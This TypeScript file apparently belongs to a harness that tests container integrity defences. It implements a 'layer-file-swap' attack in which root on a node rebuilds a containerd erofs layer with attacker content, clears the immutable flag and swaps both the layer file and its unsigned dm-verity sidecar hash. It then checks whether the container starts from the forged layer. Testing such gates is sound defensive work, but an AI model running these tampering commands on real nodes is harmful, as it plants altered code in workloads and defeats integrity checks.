/**
 * Attack: root on the node replaces a pulled layer.erofs with a rebuilt one
 * (same mkfs.erofs flags and UUID as containerd's differ, attacker content)
 * and writes a matching root hash next to it, as containerd 2.3 keeps an
 * unsigned `layer.erofs.dmverity` sidecar. Only a root hash bound to the
 * image signature can tell: the start gate must refuse.
 */
import type { Technique } from '../technique.ts';
import { buildForgedLayerFile, pulledLayerOf } from './common.ts';
import { readInContainer, tryStart } from './start.ts';


export const layerFileSwap: Technique = {
  name: 'layer-file-swap',
  async run({ node, attack, workload, pods }) {
    const { path, payload, ref, genuine, target } = await pulledLayerOf(node, attack, workload);

    // Rebuild the layer that holds the file, with the attacker's content.
    const { outPath, rootHash: forgedRoot } = await buildForgedLayerFile(node, workload, path, payload, genuine.manifest.layers);

    // Swap the file (new inode) and the sidecar together, as root would.
    const immutable = /^\S*i\S*\s/.test((await node.exec.run(['lsattr', target.layerFile])).stdout.toString());
    if (immutable) await node.run(['chattr', '-i', target.layerFile]);
    await node.run(['sh', '-c', `cp "$1" "$2.new" && mv -f "$2.new" "$2" && printf %s "$3" > "$2.dmverity"`, 'sh', outPath, target.layerFile, forgedRoot]);
    if (immutable) await node.run(['chattr', '+i', target.layerFile]);
    await node.run(['sh', '-c', 'sync && echo 3 > /proc/sys/vm/drop_caches']);

    const evidence: Record<string, unknown> = { ref, layerFile: target.layerFile, forgedRootHash: forgedRoot, sidecar: `${target.layerFile}.dmverity`, immutableFlagCleared: immutable };
    const start = await tryStart(node, workload, pods);
    if (!start.started) return { effect: false, reason: `the container did not start (${start.stage}): ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    const seen = await readInContainer(node, start.pod, path);
    evidence.contentSeen = seen.content.toString();
    return seen.content.toString() === payload
      ? { effect: true, reason: `the container started from the swapped layer file and reads the attacker's ${path}`, evidence }
      : { effect: false, reason: `the container started but reads the original ${path}`, evidence };
  },
};
